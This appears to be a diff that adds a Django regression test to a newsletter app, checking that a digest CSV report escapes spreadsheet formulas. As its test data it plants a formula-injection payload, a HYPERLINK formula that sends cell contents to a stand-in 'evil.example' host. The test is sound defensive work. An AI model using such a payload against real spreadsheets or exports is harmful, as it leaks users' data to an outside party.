@@ -102,3 +102,21 @@ def test_figures_have_one_definition() -> None:
     assert mailgun.deliveries_reported and mailgun.base == 8 and mailgun.click_rate == 25.0
     assert mailgun.base_of(sent=4, delivered=0) == 0  # a segment the ESP reported nothing for
     assert figures(sent=0, delivered=0).click_rate is None
+
+
+def test_the_story_csv_never_hands_a_formula_to_the_spreadsheet(outbox_dir) -> None:
+    # Issue 23: a feed title `=HYPERLINK(...)` arrived in the editor's spreadsheet as a formula.
+    from articles.models import Article
+    from newsletter.models import DigestItem
+
+    digest = make_digest(stories=3)
+    lead = DigestItem.objects.filter(digest=digest).order_by("position").first().article
+    Article.objects.filter(pk=lead.pk).update(title='=HYPERLINK("https://evil.example/?"&A1,"اضغط")')
+    make_subscribers(2)
+    dispatch.send_all_sync(digest_id=digest.id)
+    roll_up()
+    response = editor_client().get(reverse("admin:newsletter_digest_report_csv", args=[digest.id]))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    titles = [row[1] for row in rows[1:]]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"اضغط")' in titles
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
